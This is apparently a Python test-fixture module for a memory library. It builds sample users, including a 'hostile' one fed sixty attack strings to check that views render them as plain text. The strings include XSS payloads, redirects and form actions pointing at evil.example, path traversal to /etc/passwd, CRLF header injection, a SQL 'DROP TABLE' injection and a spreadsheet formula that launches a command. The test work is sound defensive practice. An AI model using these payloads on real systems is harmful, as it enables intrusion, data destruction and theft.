"""What the page is walked on: a small life with everything in it, hostile texts, and a very large memory."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import timedelta
from typing import Any

from recollect import Recollect, Space
from recollect.flows.asking import ask
from recollect.model.change import Put, Write
from recollect.model.entity import Mention
from recollect.model.memory import Memory
from recollect.prompts import load
from recollect.runtime import system_clock
from recollect.testing.llm import Saying, ScriptedLlm
from recollect.text.normal import digest
from recollect.text.terms import terms

BATCH = 500
TALK = (
    ("user", "I'm Ana. I live in Porto with my dog Rex and work at Northwind."),
    ("assistant", "Nice to meet you, Ana."),
    ("user", "My sister Rita is visiting in June. I am allergic to peanuts."),
    ("assistant", "I will remember that."),
)
MARKUP = (
    "<script>document.title='owned'</script>", "<img src=x onerror=document.title='owned'>", "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<style>*{display:none}</style>", "<a href=javascript:alert(1)>click</a>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<b>bold</b> &lt;b&gt; &amp;",
    "${alert(1)} {{constructor.constructor('alert(1)')()}}", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<math><mtext></mtext><script>alert(1)</script></math>", "<form action=https://evil.example><input name=x>",
    "<base href=https://evil.example>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<object data=https://evil.example>", "<!-- comment",
    "]]><script>alert(1)</script>",
)  # fmt: skip
WEIRD = (
    "\u202eright to left\u202c and back", "\u2066isolated\u2069 \u200f mark", "עברית و العربية mixed with English",
    "W" * 900, "a\u0300\u0301\u0302\u0303\u0304" * 40, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30,
    "line\nbreak\n\n\nmany", "\ttabs\tand   blanks  ", "zero\u200bwidth\u200bspaces", "\u0335\u0336\u0337struck" * 9,
    "../../etc/passwd", "%00%0d%0aSet-Cookie: x=1", "'; DROP TABLE memories; --", "\\u003cscript\\u003e",
    "=cmd|' /C calc'!A0", "http://evil.example/" + "x" * 300, "null", "undefined", "[object Object]", "__proto__",
)  # fmt: skip
HOSTILE = (*MARKUP, *WEIRD, *(f"{one} twice {two}" for one, two in zip(MARKUP, WEIRD, strict=True)))
"""Sixty texts no view may read as anything but text."""


def small_life(memory: Recollect, user: str) -> Space:
    """Give a user a conversation, facts, a correction, proposals, a block with versions and finished jobs."""
    ana = memory.space(user, "helper", "first")
    for role, text in TALK:
        ana.observe(role, text, actor="Ana" if role == "user" else "")
    ana.end()
    dog = ana.remember("Ana's dog is called Max.", topic="pets")
    ana.correct(dog.id, "Ana's dog is called Rex.")
    ana.remember("Ana lives in Porto.", key="city")
    ana.remember("Ana lives in Faro.", key="city", source="agent")
    ana.remember("Ana prefers short answers.", topic="style", importance=9, pinned=True)
    for text in ("Ana and Rita.", "Ana, her sister Rita, and Rex the dog."):
        ana.blocks.rethink("human", text)
    ana.remember("Bob Stone met Cy Lake at the harbour.", topic="guests")
    ana.context("Where does Ana live?")
    memory.run_jobs(["learn", "enrich", "relate"], owner=ana.owner)
    return ana


def asked(url: str, user: str, shown: Sequence[str], said: Saying, session: str = "first") -> None:
    """Let a model be asked for a user, so that the log of calls has an answer, a silence and a failure."""
    prompt = load("consolidate")
    answers: list[Saying] = [said, None, *["Let me think aloud."] * 3]
    with ScriptedLlm(lambda _: answers.pop(0) if answers else None) as server:
        chosen = {"base_url": server.url, "retries": 0}
        with Recollect(url, embedder="none", llm="openai:small", models=chosen, record=KEPT) as memory:
            owner = memory.space(user).owner
            texts = {one: "\n".join(shown) if one == "messages" else "" for one in prompt.data}
            for job, whose in (("consolidate", session), ("consolidate", session), ("", "")):
                ask(memory._runtime, owner, prompt.question(**texts), job=job, session=whose)


KEPT: dict[str, Any] = {"calls": True}
"""The settings of the record under which questions to models are kept."""
LEARNT: Saying = {
    "facts": [{"content": "Ana is allergic to peanuts.", "quote": "I am allergic to peanuts.", "turn": 3}],
    "summary": "Ana told of her sister's visit and an allergy.",
}


def hostile_life(memory: Recollect, user: str) -> Space:
    """Give a user hostile facts, messages, topics, names and a block."""
    mallory = memory.space(user, "helper", "hostile <b>session</b>")
    for number, text in enumerate(HOSTILE):
        mallory.observe("user", text, actor="<i>Mallory</i>")
        mallory.remember(f"{text} ({number})", topic=text.strip()[:60], tags=[text.strip()[:40]])
    mallory.blocks.rethink("human", "\n".join(HOSTILE))
    mallory.remember("Mallory lives in <u>Rome</u>.", key="city")
    mallory.remember("Mallory lives in <s>Paris</s>.", key="city", source="agent")
    return mallory


def huge_life(memory: Recollect, user: str, many: int, entities: int) -> Space:
    """Give a user very many memories that mention very many people, written in batches as a loader does."""
    space = memory.space(user)
    policy, batch = memory.settings.terms, list[Put]()
    for one, mentions in _many(space.owner, many, entities):
        known = "" if one.kind == "episode" else digest(one.content)
        batch.append(Put(one, known, terms(one.content, policy), mentions))
        if len(batch) == BATCH:
            _kept(memory, space.owner, batch)
            batch = []
    _kept(memory, space.owner, batch)
    return space


def _kept(memory: Recollect, owner: str, batch: list[Put]) -> None:
    if batch:
        at = batch[-1].memory.created_at
        memory._runtime.store.commit(Write(owner=owner, at=at, node="bench", changes=tuple(batch)))


def _many(owner: str, many: int, entities: int) -> Iterator[tuple[Memory, tuple[Mention, ...]]]:
    """Make memories: four messages to a fact, each about two people who know each other."""
    now = system_clock().replace(microsecond=0)
    for number in range(many):
        said, at = number % 5 > 0, now - timedelta(minutes=(many - number) // 2)
        first = number * 7 % entities
        people = [f"Person{first}", f"Person{(first + 1 + number // 5 % 101) % entities}"]
        text = f"{people[0]} met {people[1]} at the harbour about matter {number % 3000}."
        made = Memory(
            owner=owner, id=f"{'ep' if said else 'fact'}_{number:016x}", kind="episode" if said else "fact",
            content=text, created_at=at, updated_at=at, event_time=at, valid_from=at, tier="long",
            session=f"s{number // 50}" if said else "", role="user" if said else "", source="session",
            topic="" if said else f"topic {number % 40}", importance=None if said else 3 + number % 6,
        )  # fmt: skip
        starts = [text.index(name) for name in people]
        mentions = [
            Mention(name, "person", at, at + len(name)) for name, at in zip(people, starts, strict=True) if not said
        ]
        yield made, tuple(mentions)
